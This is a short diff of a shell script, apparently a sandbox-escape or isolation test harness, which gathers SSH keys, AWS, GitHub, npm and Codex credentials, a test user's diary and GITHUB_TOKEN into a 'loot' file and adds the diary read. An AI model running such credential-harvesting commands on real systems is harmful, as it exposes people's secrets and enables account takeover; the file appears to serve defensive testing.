@@ -15,6 +15,7 @@ echo planted > "$(git -C "$VICTIMS/tree" rev-parse --absolute-git-dir)/planted"
 
 {
   cat ~/.ssh/id_ed25519 ~/.aws/credentials ~/.config/gh/hosts.yml ~/.netrc ~/.npmrc ~/linked/key ~/.codex/auth.json
+  cat "/home/ralph-test-$MARK/diary.txt"
   echo "GITHUB_TOKEN=$GITHUB_TOKEN"
 } > "$loot"
 [ -S "$AGENT_SOCKET" ] && echo 'socket of the ssh agent' >> "$loot"
